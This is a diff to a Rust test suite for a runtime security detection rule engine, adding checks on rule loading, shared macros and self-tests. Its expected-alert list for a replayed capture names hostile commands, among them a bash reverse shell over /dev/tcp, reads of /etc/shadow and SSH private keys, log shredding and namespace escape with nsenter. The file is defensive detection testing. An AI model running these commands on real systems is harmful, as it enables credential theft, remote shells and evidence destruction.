@@ -18,13 +18,27 @@ fn root() -> &'static Path {
 fn rule_files() -> Vec<(String, PathBuf)> {
     let mut files = Vec::new();
     for tactic in fs::read_dir(root().join("rules")).expect("rules/ is there").flatten() {
+        if !tactic.path().is_dir() {
+            continue;
+        }
         let name = tactic.file_name().into_string().expect("a plain name");
         for file in fs::read_dir(tactic.path()).expect("a folder for each tactic").flatten() {
-            files.push((name.clone(), file.path()));
+            if !saker::rules::is_test_file(&file.path()) {
+                files.push((name.clone(), file.path()));
+            }
         }
     }
     files.sort();
     files
+}
+
+/// The lists and macros that all files share.
+fn shared() -> PathBuf {
+    root().join("rules/_shared.yaml")
+}
+
+fn read(path: &Path) -> Yaml {
+    serde_yaml::from_str(&fs::read_to_string(path).expect("a text file")).expect("YAML")
 }
 
 /// The items of a rule file that have this key, with its value.
@@ -46,7 +60,7 @@ fn is_technique(tag: &str) -> bool {
 fn each_rule_says_where_it_belongs() {
     let mut faults = Vec::new();
     for (folder, path) in rule_files() {
-        let document = serde_yaml::from_str(&fs::read_to_string(&path).expect("a text file")).expect("YAML");
+        let document = read(&path);
         let rules = items(&document, "rule");
         if rules.is_empty() {
             faults.push(format!("{}: no rule", path.display()));
@@ -69,12 +83,19 @@ fn each_rule_says_where_it_belongs() {
     assert!(faults.is_empty(), "{}", faults.join("\n"));
 }
 
+#[test]
+fn their_tests_pass() {
+    let rules = root().join("rules");
+    let out = saker(&["test", rules.to_str().expect("a plain path")]);
+    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
+}
+
 /// A second definition would silently change the rules of the file before.
 #[test]
 fn no_name_is_defined_twice() {
     let mut seen = BTreeSet::new();
-    for (_, path) in rule_files() {
-        let document = serde_yaml::from_str(&fs::read_to_string(&path).expect("a text file")).expect("YAML");
+    for path in rule_files().into_iter().map(|(_, path)| path).chain([shared()]) {
+        let document = read(&path);
         for kind in ["rule", "macro", "list"] {
             for (name, _) in items(&document, kind) {
                 assert!(seen.insert((kind, name.to_owned())), "{kind} {name} again in {}", path.display());
@@ -83,27 +104,47 @@ fn no_name_is_defined_twice() {
     }
 }
 
+/// What nobody uses is not shared, and the check of one file cannot tell.
+#[test]
+fn what_is_shared_is_used_by_two_files() {
+    let texts: Vec<String> =
+        rule_files().iter().map(|(_, path)| fs::read_to_string(path).expect("a text file")).collect();
+    let names_it = |text: &str, name: &str| {
+        let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
+        text.split(|c| !word(c)).any(|part| part == name)
+    };
+    let document = read(&shared());
+    let own = fs::read_to_string(shared()).expect("a text file");
+    for kind in ["macro", "list"] {
+        for (name, _) in items(&document, kind) {
+            let users = texts.iter().filter(|text| names_it(text, name)).count();
+            let within =
+                own.lines().any(|line| !line.contains(&format!("{kind}: {name}")) && names_it(line, name));
+            assert!(users >= 2 || within, "{kind} {name} is used by {users} files");
+        }
+    }
+}
+
 #[test]
 fn they_load_without_a_warning() {
-    for (_, path) in rule_files() {
+    let each = rule_files().into_iter().map(|(_, path)| path);
+    let folders: BTreeSet<PathBuf> =
+        rule_files().iter().filter_map(|(_, path)| Some(path.parent()?.into())).collect();
+    for path in each.chain(folders).chain([root().join("rules")]) {
         let path = path.to_str().expect("a plain path");
         let out = saker(&["check", path]);
         let report = text(&out.stdout);
         assert_eq!(out.status.code(), Some(0), "{report}{}", text(&out.stderr));
-        assert!(report.trim_end().ends_with(": Ok"), "{report}");
+        assert!(report.lines().all(|line| line.ends_with(": Ok")), "{report}");
+        assert_eq!(text(&out.stderr), "", "{path}");
     }
 }
 
 #[test]
 fn they_find_the_attack_in_the_bundled_capture() {
-    let files = rule_files();
-    let capture = root().join("tests/data/vm_small.scap.gz");
-    let mut args = vec!["replay", "-o", "json_output=true"];
-    for (_, path) in &files {
-        args.extend(["-r", path.to_str().expect("a plain path")]);
-    }
-    args.push(capture.to_str().expect("a plain path"));
-    let out = saker(&args);
+    let [rules, capture] = ["rules", "tests/data/vm_small.scap.gz"].map(|path| root().join(path));
+    let [rules, capture] = [&rules, &capture].map(|path| path.to_str().expect("a plain path"));
+    let out = saker(&["replay", "-o", "json_output=true", "-o", "rule_matching=all", "-r", rules, capture]);
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
 
     let mut alerts: BTreeMap<String, Vec<String>> = BTreeMap::new();
@@ -137,6 +178,8 @@ fn they_find_the_attack_in_the_bundled_capture() {
       find / -maxdepth 2 -name .aws
       find /root -name id_dsa
       find / -maxdepth 1 -name id_rsa
+    Data destroyed in bulk (Error)
+      shred -u /var/log/auth.log
     Environment of another process read (Warning)
       cat /proc/1/environ
     Job or service planted (Warning)
@@ -165,6 +208,10 @@ fn they_find_the_attack_in_the_bundled_capture() {
       cat /etc/shadow
     Preloaded library set (Critical)
       touch /etc/ld.so.preload
+    Process enters other namespaces (Notice)
+      nsenter -t 1 -m true
+    Process keeps debuggers away (Notice)
+      evil traceme
     Program directory changed (Error)
       bash /mnt/w_small.sh
       mv /usr/bin/evil_bin /usr/bin/evil_bin2
@@ -182,18 +229,32 @@ fn they_find_the_attack_in_the_bundled_capture() {
       evil rev 4445
       bash -c bash -i >& /dev/tcp/127.0.0.1/4446 0>&1
       evil rev 4447
+    SSH directory looked through (Notice)
+      grep -r BEGIN RSA PRIVATE KEY /root
+      find /root -name id_rsa
+      find /root -name id_dsa
     SSH login keys changed (Warning)
       bash /mnt/w_small.sh
     SSH private key read (Error)
       cat /root/.ssh/id_rsa
       grep -r BEGIN RSA PRIVATE KEY /root
+    Server follows a path out of its directory (Warning)
+      cat /etc/../etc/../etc/shadow
     Setuid or setgid bit set (Notice)
       chmod u+s /tmp/x
       chmod 4755 /tmp/x
+    Shell connects by itself (Error)
+      bash -c bash -i >& /dev/tcp/127.0.0.1/4446 0>&1
     Shell history removed (Warning)
       rm -f /root/.bash_history
     Shell startup file changed (Warning)
       bash /mnt/w_small.sh
+    Shell startup file read by a stranger (Informational)
+      grep -r BEGIN RSA PRIVATE KEY /root
+    Shell talks to the network (Critical)
+      sh -c id; exit
+      bash -i
+      sh -c id; exit
     Sudo rights changed (Critical)
       bash /mnt/w_small.sh
     System configuration changed (Notice)
